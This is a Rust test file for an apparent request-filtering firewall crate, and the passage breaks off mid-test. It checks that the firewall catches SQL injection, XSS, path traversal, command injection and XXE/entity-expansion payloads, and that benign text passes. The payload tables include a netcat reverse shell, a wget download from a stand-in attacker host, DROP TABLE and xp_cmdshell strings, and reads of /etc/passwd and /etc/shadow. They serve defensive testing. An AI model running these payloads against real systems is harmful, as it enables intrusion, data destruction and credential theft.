//! The injection stage and its detectors: tables of classic SQL injection and XSS payloads
//! (plain and encoded) that must be found, ordinary text that must pass, each parameter
//! source (query, form, JSON, multipart, XML), DTDs refused, uploads typed by content and
//! size, configuration errors, and properties (plain text never flagged, nothing panics).
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    reason = "tests: a failed step must fail the test"
)]

use std::sync::Arc;

use axum::Router;
use axum::body::Body;
use axum::extract::Request;
use axum::http::{StatusCode, header};
use axum::routing::any as any_method;
use http_body_util::BodyExt as _;
use portcullis_guard::inject::{self, Attack, Sensitivity};
use portcullis_guard::{Injection, InjectionCheck, RawInjection, StageLayer};
use proptest::prelude::*;
use serde_json::{Value, json};
use tower::ServiceExt as _;

// ------------------------------------------------------------------------------------------
// Detectors
// ------------------------------------------------------------------------------------------

const SQLI_ATTACKS: &[&str] = &[
    "' OR '1'='1",
    "' or 1=1--",
    "\" or \"\"=\"",
    "1' or '1'='1' -- ",
    "' OR 1=1#",
    "') OR ('a'='a",
    "1 OR 1=1",
    "admin'--",
    "admin' #",
    "admin'/*",
    "1; DROP TABLE users--",
    "1'; DROP TABLE users; --",
    "'; DELETE FROM orders WHERE 1=1; --",
    "1 UNION SELECT username, password FROM users",
    "' UNION SELECT NULL, NULL--",
    "-1 UNION ALL SELECT 1,2,3,4--",
    "1 union/**/select/**/1,2",
    "1/*!50000UNION*//*!50000SELECT*/1,2",
    "1 AND SLEEP(5)",
    "1' AND SLEEP(5)--",
    "'; WAITFOR DELAY '0:0:5'--",
    "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)",
    "1; SELECT pg_sleep(5)--",
    "1 AND BENCHMARK(5000000,MD5(1))",
    "' AND extractvalue(1,concat(0x7e,version()))--",
    "1 AND updatexml(1,concat(0x7e,(SELECT user())),1)",
    "' UNION SELECT table_name FROM information_schema.tables--",
    "1 AND @@version > 5",
    "'; EXEC xp_cmdshell('dir')--",
    "1' ORDER BY 3--",
    "1' AND 1=CONVERT(int,(SELECT @@version))--",
    "' || (SELECT password FROM users LIMIT 1) || '",
    "1 AND ASCII(SUBSTRING((SELECT password FROM users),1,1))>64",
    "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
    "' OR 'x'='x",
    "1' HAVING 1=1--",
    "' GROUP BY columnnames HAVING 1=1 --",
    "1 and 2=2",
    "or 1=1",
    "' or true--",
    "admin\") or (\"1\"=\"1\"/*",
    // Encoded: percent (once more than the query already was), double, entities, escapes.
    "1%27%20OR%20%271%27%3D%271",
    "%2527%2520OR%25201%253D1--",
    "1%20UNION%20SELECT%20password%20FROM%20users",
    "&#39; OR &#39;1&#39;=&#39;1",
    "\\u0027 OR 1=1--",
    "1'%00 OR 1=1--",
    // Medium rules: appended WHERE tautologies, full-text modifiers before the quote
    // breaks out, heavy queries, other catalogs, constant conditions, clause breakouts.
    "7) where 12=12 --",
    "x' where 31 = 31",
    "5 where 77 = 77",
    "x') in boolean mode) and 5=5#",
    "abc' in natural language mode) or 2>1 --",
    "1;select repeat('a',99999999)",
    "1 and randomblob(100000000)>0",
    "1 and exists(select 1 from rdb$relations)",
    "1 and (select count(*) from sysibm.sysdummy1)>0",
    "1 and 3=(select count(*) from all_tables)",
    "1 and elt(4=4,1)",
    "1 and make_set(8<9,2)",
    "2 and iif(6=6,1,1/0)",
    "1) order by 7--",
    "') having 2=2 --",
    "; select case when 7=7 then 1 end",
    "1 and (4=5)*5",
    "and 9=10-- x",
    "or x = x",
];

const XSS_ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/src=//evil.example>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=\"x\" onerror=\"alert(document.cookie)\">",
    "<svg/onload=alert(1)>",
    "<svg onload=alert`1`>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\">",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.domain)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<object data=\"data:text/html,<script>alert(1)</script>\">",
    "<embed src=\"javascript:alert(1)\">",
    "<math><mtext></mtext><maction actiontype=statusline xlink:href=javascript:alert(1)>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<div style=\"width: expression(alert(1))\">",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=\"alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>x</button>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "x onfocus=alert(1) autofocus",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "\";alert(1);//",
    "';alert(String.fromCharCode(88,83,83))//",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<scr\u{0}ipt>alert(1)</script>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<scr<script>ipt>alert(1)</scr<script>ipt>",
    "<img src=x:alert(alt) onerror=eval(src) alt=xss>",
    "<x onxxx=alert(1) 1='",
    "'-alert(1)-'",
    // Encoded: entities, percent, double percent, JavaScript escapes.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Csvg%2Fonload%3Dalert(1)%253E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    // Medium rules: script without markup, templates, obfuscations.
    "(confirm)(2)",
    "+function(){confirm(2)}()",
    "void function(){prompt(3)}()",
    "x=1;prompt(document.domain)",
    "${prompt(3)}",
    "{{constructor.constructor('confirm(4)')()}}",
    "#{7*191}",
    "<%= 7*7 %>",
    "<div onclick!@#=confirm(5)>",
    "x.innerHTML = location.hash",
    "top['conf'+'irm'](6)",
    "[].filter.constructor('confirm(6)')()",
    "\\74svg onload=confirm(7)\\76",
    "[a](data:prompt(8))",
    "/OpenAction << /S /JavaScript /JS (app.alert(9)) >>",
    "onpageshow=()=>confirm(10)",
    "<SCR\\0IPT>confirm(11)</SCR\\0IPT>",
    "(![]+[])[+[]]",
];

const BENIGN: &[&str] = &[
    "O'Brien",
    "Miles O'Brien and Keiko O'Brien",
    "select a size",
    "Please select the best option from the list",
    "1 OR 2 items",
    "<3",
    "I <3 this shop",
    "a < b and c > d",
    "if x<y then y>z",
    "3 > 2",
    "john.doe@example.com",
    "user@domain.com; other@domain.com",
    "John Doe <john.doe@example.com>",
    "https://example.com/path?a=1&b=2#frag",
    "https://example.com/search?q=union+station&sort=desc",
    "{\"a\": 1, \"b\": [1, 2], \"c\": \"d\"}",
    "[1, 2, 3]",
    "你好，世界",
    "我想订购两件商品，谢谢！",
    "Ça coûte 10 € — d'accord ?",
    "I'd like to order 2 items -- urgent",
    "It's a 'test', really",
    "Rock 'n' roll",
    "he said 'yes' or 2 times",
    "don't; won't",
    "drop me a line",
    "update: the order was shipped",
    "Union Station, platform 3",
    "The union selected a new leader",
    "Delete my account from the mailing list, please",
    "Insert coin to continue",
    "50% off, today only",
    "$100 & more",
    "Tom & Jerry",
    "100%",
    "C:\\Windows\\System32",
    "1-2-3",
    "1/2 cup sugar",
    "3.14159",
    "-42",
    "2024-05-17T10:00:00Z",
    "+86 138 1234 5678",
    "Ref: ABC-1234/5",
    "Hello, world!",
    "#hashtag and @mention",
    "JavaScript: The Good Parts",
    "I love javascript: it is fun",
    "Turn on the lights",
    "online=yes",
    "Meet me at the cafe; order by noon",
    "SELECT your favourite colour",
    "I'll sleep (8 hours) tonight",
    "The script was great",
    "My iframe question",
    "Use a <b>bold</b> word",
    "Bring 2 <em>apples</em>",
    "x = y + 1",
    "a=1&b=2",
    "where is my order?",
    "null",
    "true",
    "''",
    "\"quoted\"",
    "--",
    "#1 fan",
    "Re: your order #12345",
    "The Who's \"Who's Next\"",
    "Mr. O'Neil's 'special' order",
    "I'm 6' 2\" tall",
    "Please confirm (yes/no)",
    "Call me at 555-1234 or email me",
    "Rock & Roll Hall of Fame",
    "5 < 6 > 4",
    "&amp; &lt; &gt;",
    "data: none",
    "%20",
    // Near misses of the medium rules.
    "where 2 = 2 people met",
    "the place where 3 = 3 agreed",
    "(0711)-224466",
    "(0230) 558129",
    "(2+3)*4 = 20",
    "1 + (2 * 3) - 4",
    "x = f(2) + 3",
    "order by 5 pm",
    "Having 2 kids",
    "Alert: the shop closes at 5",
    "prompt (later)",
    "please confirm (2 copies)",
    "the function of x",
    "a constructor builds things",
    "Template: {{name}}",
    "Price: ${price}",
    "if a > b then c, else {d}",
    "see [the docs](https://example.com/docs)",
    "C:\\Users\\101\\docs",
    "the boolean mode of the search",
    "or else",
];

#[test]
fn classic_sql_injection_is_found() {
    let missed: Vec<&str> = SQLI_ATTACKS
        .iter()
        .copied()
        .filter(|attack| inject::sqli(attack).is_none())
        .collect();
    assert!(missed.is_empty(), "missed SQL injection: {missed:#?}");
}

#[test]
fn classic_xss_is_found() {
    let missed: Vec<&str> = XSS_ATTACKS
        .iter()
        .copied()
        .filter(|attack| inject::xss(attack).is_none())
        .collect();
    assert!(missed.is_empty(), "missed XSS: {missed:#?}");
}

#[test]
fn ordinary_text_passes_at_medium() {
    let flagged: Vec<String> = BENIGN
        .iter()
        .filter_map(|text| {
            inject::sqli(text)
                .or_else(|| inject::xss(text))
                .map(|finding| format!("{text:?}: {finding}"))
        })
        .collect();
    assert!(flagged.is_empty(), "ordinary text flagged: {flagged:#?}");
}

#[test]
fn findings_say_what_matched() {
    let finding = inject::sqli("' OR '1'='1").unwrap();
    assert_eq!(finding.attack, Attack::SqlInjection);
    assert_eq!(finding.rule, "libinjection fingerprint");
    assert_eq!(finding.detail.as_deref(), Some("s&sos"));
    assert!(finding.decoded.is_empty());

    let finding = inject::xss("<img src=x onerror=alert(1)>").unwrap();
    assert_eq!(finding.attack, Attack::Xss);

    let finding = inject::xss("%253Cscript%253Ealert(1)").unwrap();
    assert!(!finding.decoded.is_empty(), "{finding:?}");
    assert!(finding.to_string().contains("percent"), "{finding}");
}

#[test]
fn sensitivity_changes_what_fires() {
    use Sensitivity::{High, Low, Medium};
    // Found at every level.
    for level in [Low, Medium, High] {
        assert!(inject::sqli_at("' OR '1'='1", level).is_some());
        assert!(inject::xss_at("<script>alert(1)</script>", level).is_some());
    }
    // Bare keyword pairs and any tag: only at high.
    for text in ["select name from customers", "insert into the cart"] {
        assert!(inject::sqli_at(text, Medium).is_none(), "{text}");
        assert!(inject::sqli_at(text, High).is_some(), "{text}");
    }
    for text in ["<b>bold</b>", "alert (1)"] {
        assert!(inject::xss_at(text, Medium).is_none(), "{text}");
        assert!(inject::xss_at(text, High).is_some(), "{text}");
    }
    // Medium's own rules stay off at low.
    let medium_only = "\";alert(1);//";
    assert!(inject::xss_at(medium_only, Low).is_none());
    assert!(inject::xss_at(medium_only, Medium).is_some());
    // Ordinary text passes at low too.
    for text in BENIGN {
        assert!(inject::sqli_at(text, Low).is_none(), "{text}");
        assert!(inject::xss_at(text, Low).is_none(), "{text}");
    }
}

const TRAVERSAL_ATTACKS: &[&str] = &[
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/../../../web-inf/web.xml",
    "....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252fetc%252fpasswd",
    "/0x2e0x2e/0x2e0x2e/etc/passwd",
    "..%c0%af..%c0%afetc/passwd",
    "/..0x2f..0x2f..0x2fboot.ini",
    "/proc/self/environ",
    "c:\\boot.ini",
    "/./././../etc/hosts",
    "////////etc/passwd",
    "file/...../config",
];

const COMMAND_ATTACKS: &[&str] = &[
    "a;id",
    "a|id",
    "a);/usr/bin/id|",
    "1 && whoami",
    "x; cat /etc/passwd",
    "x | ls -la",
    "`id`",
    "$(whoami)",
    "& ping -n 30 127.0.0.1 &",
    "; sleep 10",
    "| nc 10.0.0.1 4444 -e /bin/sh",
    "+|+dir+c:",
    "$&&dir c:/",
    "; wget http://evil.example/x.sh",
    "/usr/bin/id",
    "<!--#exec cmd=\"/bin/cat /etc/shadow\"-->",
    "; net user admin secret /add",
];

/// Ordinary values that look a little like paths or shell: they must pass.
const BENIGN_PATHS_AND_SHELL: &[&str] = &[
    "docs/guide/intro.md",
    "https://example.com/a/b/c?d=e",
    "report.v2.final.pdf",
    "Wait... what?",
    "and so on...",
    "Tom & Jerry; cat lovers",
    "Q&A | Help",
    "rock&roll",
    "menu: Home | About | Contact",
    "The solicitor, nicknamed \"Bash\"",
    "see p | | ls 169",
    "a.b.c.d",
    "C: drive",
    "time: 10:30",
    "id: 42",
    "echo chamber",
    "http://example.com/bin/tools",
    "usr/bin is a folder",
    "sleep well",
    "1 | 2 | 3",
];

#[test]
fn path_traversal_and_command_injection_are_found() {
    let missed: Vec<&str> = TRAVERSAL_ATTACKS
        .iter()
        .copied()
        .filter(|attack| inject::traversal_at(attack, Sensitivity::Medium).is_none())
        .collect();
    assert!(missed.is_empty(), "missed path traversal: {missed:#?}");
    let missed: Vec<&str> = COMMAND_ATTACKS
        .iter()
        .copied()
        .filter(|attack| inject::command_at(attack, Sensitivity::Medium).is_none())
        .collect();
    assert!(missed.is_empty(), "missed command injection: {missed:#?}");
    // Off at `low`.
    assert!(inject::traversal_at("../../etc/passwd", Sensitivity::Low).is_none());
    assert!(inject::command_at("a;id", Sensitivity::Low).is_none());
    let finding = inject::traversal_at("%2e%2e%2fetc%2fpasswd", Sensitivity::Medium).unwrap();
    assert_eq!(finding.attack, Attack::PathTraversal);
    assert!(finding.to_string().contains("percent"), "{finding}");
}

#[test]
fn paths_and_punctuation_in_ordinary_text_pass() {
    let flagged: Vec<String> = BENIGN_PATHS_AND_SHELL
        .iter()
        .chain(BENIGN)
        .filter_map(|text| {
            inject::traversal_at(text, Sensitivity::Medium)
                .or_else(|| inject::command_at(text, Sensitivity::Medium))
                .map(|finding| format!("{text:?}: {finding}"))
        })
        .collect();
    assert!(flagged.is_empty(), "ordinary text flagged: {flagged:#?}");
}

// ------------------------------------------------------------------------------------------
// The stage
// ------------------------------------------------------------------------------------------

fn config(value: Value) -> Result<Injection, String> {
    let raw: RawInjection = serde_json::from_value(value).map_err(|error| error.to_string())?;
    Injection::try_from(raw).map_err(|error| error.to_string())
}

fn standard() -> Injection {
    config(json!({
        "skip": ["POST /webhooks/{*rest}", "article.body", "posts[].html"],
        "max_body_bytes": 65536,
        "uploads": {
            "allowed_types": ["image/png", "image/jpeg", "application/pdf", "text/plain"],
            "max_bytes": 1024
        }
    }))
    .unwrap()
}

fn app(injection: Injection) -> Router {
    Router::new()
        .route("/{*path}", any_method(|| async { "reached" }))
        .layer(StageLayer::new(InjectionCheck::new(Arc::new(injection))))
}

#[derive(Debug, PartialEq)]
struct Answer {
    status: StatusCode,
    code: Option<String>,
    field: Option<String>,
    message: String,
}

async fn send_to(injection: Injection, request: Request) -> Answer {
    let response = app(injection).oneshot(request).await.unwrap();
    let status = response.status();
    let bytes = response.into_body().collect().await.unwrap().to_bytes();
    if status == StatusCode::OK {
        assert_eq!(&bytes[..], b"reached");
        return Answer {
            status,
            code: None,
            field: None,
            message: String::new(),
        };
    }
    let body: Value = serde_json::from_slice(&bytes).unwrap();
    assert_eq!(body["error"]["stage"], "injection", "{body}");
    Answer {
        status,
        code: body["error"]["code"].as_str().map(str::to_owned),
        field: body["error"]["field"].as_str().map(str::to_owned),
        message: body["error"]["message"]
            .as_str()
            .unwrap_or_default()
            .to_owned(),
    }
}

async fn send(request: Request) -> Answer {
    send_to(standard(), request).await
}

fn assert_refused(answer: &Answer, status: StatusCode, code: &str, field: &str) {
    assert_eq!(answer.status, status, "{answer:?}");
    assert_eq!(answer.code.as_deref(), Some(code), "{answer:?}");
    assert_eq!(answer.field.as_deref(), Some(field), "{answer:?}");
}

fn assert_passed(answer: &Answer) {
    assert_eq!(answer.status, StatusCode::OK, "{answer:?}");
}

fn query(name: &str, value: &str) -> Request {
    let mut serializer = form_urlencoded::Serializer::new(String::new());
    serializer.append_pair(name, value);
    Request::get(format!("/search?{}", serializer.finish()))
        .body(Body::empty())
        .unwrap()
}

fn form(pairs: &[(&str, &str)]) -> Request {
    let mut serializer = form_urlencoded::Serializer::new(String::new());
    for (name, value) in pairs {
        serializer.append_pair(name, value);
    }
    Request::post("/comments")
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::from(serializer.finish()))
        .unwrap()
}

fn json_body(path: &str, body: &Value) -> Request {
    Request::post(path)
        .header(header::CONTENT_TYPE, "application/json")
        .body(Body::from(body.to_string()))
        .unwrap()
}

fn xml(body: &str) -> Request {
    Request::post("/orders")
        .header(header::CONTENT_TYPE, "application/xml")
        .body(Body::from(body.to_owned()))
        .unwrap()
}

/// One multipart part: a text field, or a file with a name and a declared type.
enum Part<'a> {
    Text(&'a str, &'a str),
    File {
        name: &'a str,
        file_name: &'a str,
        content_type: Option<&'a str>,
        bytes: &'a [u8],
    },
}

fn multipart(parts: &[Part<'_>]) -> Request {
    let boundary = "portcullis-test-boundary";
    let mut body = Vec::new();
    for part in parts {
        body.extend_from_slice(format!("--{boundary}\r\n").as_bytes());
        match part {
            Part::Text(name, value) => {
                body.extend_from_slice(
                    format!("Content-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
                        .as_bytes(),
                );
            }
            Part::File {
                name,
                file_name,
                content_type,
                bytes,
            } => {
                body.extend_from_slice(
                    format!(
                        "Content-Disposition: form-data; name=\"{name}\"; filename=\"{file_name}\"\r\n"
                    )
                    .as_bytes(),
                );
                if let Some(content_type) = content_type {
                    body.extend_from_slice(format!("Content-Type: {content_type}\r\n").as_bytes());
                }
                body.extend_from_slice(b"\r\n");
                body.extend_from_slice(bytes);
                body.extend_from_slice(b"\r\n");
            }
        }
    }
    body.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
    Request::post("/upload")
        .header(
            header::CONTENT_TYPE,
            format!("multipart/form-data; boundary={boundary}"),
        )
        .body(Body::from(body))
        .unwrap()
}

#[tokio::test]
async fn query_parameters_are_checked() {
    let answer = send(query("q", "1' OR '1'='1")).await;
    assert_refused(&answer, StatusCode::BAD_REQUEST, "sql_injection", "q");
    assert!(answer.message.contains("SQL injection"), "{answer:?}");
    assert!(
        !answer.message.contains("'1'='1"),
        "the payload is echoed: {answer:?}"
    );

    let answer = send(query("name", "<script>alert(1)</script>")).await;
    assert_refused(&answer, StatusCode::BAD_REQUEST, "xss_detected", "name");
    assert!(!answer.message.contains("<script"), "{answer:?}");

    for text in BENIGN {
        assert_passed(&send(query("q", text)).await);
    }
    // Encoded once more than the query string itself.
    let answer = send(
        Request::get("/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E")
            .body(Body::empty())
            .unwrap(),
    )
    .await;
    assert_refused(&answer, StatusCode::BAD_REQUEST, "xss_detected", "q");
}

#[tokio::test]
async fn parameter_names_are_checked_too() {
    let answer = send(query("<svg/onload=alert(1)>", "x")).await;
    assert_eq!(answer.code.as_deref(), Some("xss_detected"));
    let field = answer.field.unwrap();
    assert!(!field.contains('<'), "the name is shown unescaped: {field}");
    assert!(
        answer.message.contains("parameter name"),
        "{}",
        answer.message
    );

    let answer = send(query("id' OR '1'='1", "x")).await;
    assert_eq!(answer.code.as_deref(), Some("sql_injection"));
}

#[tokio::test]
async fn form_fields_are_checked() {
    let answer = send(form(&[
        ("author", "O'Brien"),
        ("comment", "<img src=x onerror=alert(1)>"),
    ]))
    .await;
    assert_refused(&answer, StatusCode::BAD_REQUEST, "xss_detected", "comment");

    let answer = send(form(&[("id", "1; DROP TABLE users--")])).await;
    assert_refused(&answer, StatusCode::BAD_REQUEST, "sql_injection", "id");

    assert_passed(
        &send(form(&[
            ("author", "O'Brien"),
            ("comment", "a < b and c > d"),
        ]))
        .await,
    );
}

#[tokio::test]
async fn json_leaves_are_checked_by_path() {
    let answer = send(json_body(
        "/orders",
        &json!({"customer": {"name": "O'Brien", "note": "' UNION SELECT password FROM users--"}}),
    ))
    .await;
    assert_refused(
        &answer,
        StatusCode::BAD_REQUEST,
        "sql_injection",
        "customer.note",
    );

    let answer = send(json_body(
        "/orders",
        &json!({"items": [{"sku": "a1"}, {"sku": "<svg onload=alert(1)>"}]}),
    ))
    .await;
    assert_refused(
        &answer,
        StatusCode::BAD_REQUEST,
        "xss_detected",
        "items[1].sku",
    );

    // Numbers, booleans and null are not text.
    assert_passed(
        &send(json_body(
            "/orders",
            &json!({"quantity": 3, "gift": true, "note": null, "name": "select a size", "tags": ["<3", "1 OR 2 items"]}),
        ))
        .await,
    );
}

#[tokio::test]
async fn skipped_routes_and_parameters_are_not_checked() {
    let attack = "<script>alert(1)</script>";
    // A skipped route.
    let request = Request::post("/webhooks/github")
        .header(header::CONTENT_TYPE, "application/json")
        .body(Body::from(json!({"body": attack}).to_string()))
        .unwrap();
    assert_passed(&send(request).await);
    // A skipped parameter (a rich-text field), by exact name and by array pattern.
    assert_passed(
        &send(json_body(
            "/articles",
            &json!({"article": {"body": attack}}),
        ))
        .await,
    );
    assert_passed(&send(json_body("/posts", &json!({"posts": [{"html": attack}]}))).await);
    // Its neighbours are still checked.
    let answer = send(json_body(
        "/articles",
        &json!({"article": {"body": attack, "title": attack}}),
    ))
    .await;
    assert_refused(
        &answer,
        StatusCode::BAD_REQUEST,
        "xss_detected",
        "article.title",
    );
}

#[tokio::test]
async fn detectors_can_be_turned_off() {
    let sql_only = config(json!({"xss": false})).unwrap();
    assert_passed(&send_to(sql_only.clone(), query("q", "<script>alert(1)</script>")).await);
    let answer = send_to(sql_only, query("q", "' OR '1'='1")).await;
    assert_eq!(answer.code.as_deref(), Some("sql_injection"));

    let xss_only = config(json!({"sql": false})).unwrap();
    assert_passed(&send_to(xss_only, query("q", "' OR '1'='1")).await);

    // Path traversal and command injection: on by default, each with its code.
    let answer = send(query("file", "../../etc/passwd")).await;
    assert_refused(&answer, StatusCode::BAD_REQUEST, "path_traversal", "file");
    let answer = send(query("host", "127.0.0.1 && whoami")).await;
    assert_refused(
        &answer,
        StatusCode::BAD_REQUEST,
        "command_injection",
        "host",
    );
    let neither = config(json!({"traversal": false, "command": false})).unwrap();
    assert_passed(&send_to(neither.clone(), query("file", "../../etc/passwd")).await);
    assert_passed(&send_to(neither, query("host", "127.0.0.1 && whoami")).await);
}

#[tokio::test]
async fn the_configured_sensitivity_applies() {
    let high = config(json!({"sensitivity": "high"})).unwrap();
    let answer = send_to(high, query("q", "select name from customers")).await;
    assert_eq!(answer.code.as_deref(), Some("sql_injection"));
    assert_passed(&send(query("q", "select name from customers")).await);
}

#[tokio::test]
async fn multipart_text_fields_and_file_names_are_checked() {
    let answer = send(multipart(&[
        Part::Text("title", "holiday"),
        Part::Text("caption", "\"><script>alert(1)</script>"),
    ]))
    .await;
    assert_refused(&answer, StatusCode::BAD_REQUEST, "xss_detected", "caption");

    let answer = send(multipart(&[Part::File {
        name: "photo",
        file_name: "<img src=x onerror=alert(1)>.png",
        content_type: Some("image/png"),
        bytes: PNG,
    }]))
    .await;
    assert_refused(&answer, StatusCode::BAD_REQUEST, "xss_detected", "photo");
}

// ------------------------------------------------------------------------------------------
// XML
// ------------------------------------------------------------------------------------------

#[tokio::test]
async fn xml_text_and_attributes_are_checked() {
    assert_passed(
        &send(xml(
            "<?xml version=\"1.0\"?><order id=\"7\"><customer>O&apos;Brien</customer><note><![CDATA[a < b and c > d]]></note><empty/></order>",
        ))
        .await,
    );
    let answer = send(xml("<order><customer>x' OR '1'='1</customer></order>")).await;
    assert_refused(
        &answer,
        StatusCode::BAD_REQUEST,
        "sql_injection",
        "/order/customer",
    );

    let answer = send(xml(
        "<order><item sku=\"&lt;script&gt;alert(1)&lt;/script&gt;\"/></order>",
    ))
    .await;
    assert_refused(
        &answer,
        StatusCode::BAD_REQUEST,
        "xss_detected",
        "/order/item/@sku",
    );

    // Text split by references and CDATA is checked whole.
    let answer = send(xml(
        "<order><note>&lt;img src=x <![CDATA[onerror=alert(1)>]]></note></order>",
    ))
    .await;
    assert_refused(
        &answer,
        StatusCode::BAD_REQUEST,
        "xss_detected",
        "/order/note",
    );
}

#[tokio::test]
async fn xml_with_a_dtd_is_refused() {
    let external_entity = r#"<?xml version="1.0"?>
<!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<order><note>&xxe;</note></order>"#;
    let billion_laughs = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>"#;
    let external_dtd =
        r#"<?xml version="1.0"?><!DOCTYPE order SYSTEM "http://evil.example/order.dtd"><order/>"#;
    for body in [external_entity, billion_laughs, external_dtd] {
        let answer = send(xml(body)).await;
        assert_eq!(answer.status, StatusCode::BAD_REQUEST, "{answer:?}");
        assert_eq!(
            answer.code.as_deref(),
            Some("xml_dtd_refused"),
            "{answer:?}"
        );
    }
    // Without a DTD, an entity is undeclared: malformed, never resolved.
    let answer = send(xml("<order><note>&xxe;</note></order>")).await;
    assert_eq!(answer.code.as_deref(), Some("malformed_body"), "{answer:?}");
}

#[tokio::test]
async fn malformed_xml_is_refused() {
    for body in [
        "<order><note>x</order>",
        "<order><note>x</note>",
        "<order attr=\"x></order>",
        "<a/><b/>",
        "just text",
    ] {
        let answer = send(xml(body)).await;
        assert_eq!(answer.status, StatusCode::BAD_REQUEST, "{body}: {answer:?}");
        assert_eq!(
            answer.code.as_deref(),
            Some("malformed_body"),
            "{body}: {answer:?}"
        );
    }
    let answer = send(
        Request::post("/orders")
            .header(header::CONTENT_TYPE, "text/xml")
            .body(Body::from(vec![
                b'<', b'a', b'>', 0xff, b'<', b'/', b'a', b'>',
            ]))
            .unwrap(),
    )
    .await;
    assert_eq!(answer.code.as_deref(), Some("malformed_body"), "{answer:?}");
}

#[tokio::test]
async fn other_bodies_are_not_inspected() {
    let request = Request::post("/raw")
        .header(header::CONTENT_TYPE, "text/plain")
        .body(Body::from("<script>alert(1)</script>"))
        .unwrap();
    assert_passed(&send(request).await);
}

// ------------------------------------------------------------------------------------------
// Uploads
// ------------------------------------------------------------------------------------------

/// The PNG signature and the start of an IHDR chunk.
const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0";
/// An ELF executable's header.
const ELF: &[u8] = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0";
/// A Windows executable's header.
const EXE: &[u8] = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0";

fn file<'a>(file_name: &'a str, content_type: Option<&'a str>, bytes: &'a [u8]) -> Request {
    multipart(&[
        Part::Text("title", "my file"),
        Part::File {
            name: "attachment",
            file_name,
            content_type,
            bytes,
        },
    ])
}

#[tokio::test]
async fn uploads_are_typed_by_content_not_name() {
    // Honest files pass.
    assert_passed(&send(file("photo.png", Some("image/png"), PNG)).await);
    assert_passed(&send(file("notes.txt", Some("text/plain"), b"hello, world\n")).await);
    assert_passed(&send(file("photo", None, PNG)).await);
    assert_passed(&send(file("blob.bin", Some("application/octet-stream"), PNG)).await);

    // A PNG named .txt and declared text/plain: the declaration lies.
    let answer = send(file("notes.txt", Some("text/plain"), PNG)).await;
    assert_refused(
        &answer,
        StatusCode::UNSUPPORTED_MEDIA_TYPE,
        "upload_type_mismatch",
        "attachment",
    );
    assert!(answer.message.contains("image/png"), "{answer:?}");
    assert!(answer.message.contains("text/plain"), "{answer:?}");

    // Executables named and declared as images.
    for bytes in [ELF, EXE] {
        let answer = send(file("photo.png", Some("image/png"), bytes)).await;
        assert_refused(
            &answer,
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
            "upload_type_refused",
            "attachment",
        );
        assert!(answer.message.contains("declared image/png"), "{answer:?}");
    }

    // Text declared as HTML is HTML, which is not allowed.
    let answer = send(file("page.txt", Some("text/html"), b"<p>hi</p>")).await;
    assert_eq!(
        answer.code.as_deref(),
        Some("upload_type_refused"),
        "{answer:?}"
    );
}

#[tokio::test]
async fn uploads_are_limited_in_size() {
    let mut big = PNG.to_vec();
    big.resize(1025, 0);
    let answer = send(file("photo.png", Some("image/png"), &big)).await;
    assert_refused(
        &answer,
        StatusCode::PAYLOAD_TOO_LARGE,
        "upload_too_large",
        "attachment",
    );
    big.truncate(1024);
    assert_passed(&send(file("photo.png", Some("image/png"), &big)).await);
}

#[tokio::test]
async fn upload_types_may_be_wildcards() {
    let images = config(json!({"uploads": {"allowed_types": ["image/*"]}})).unwrap();
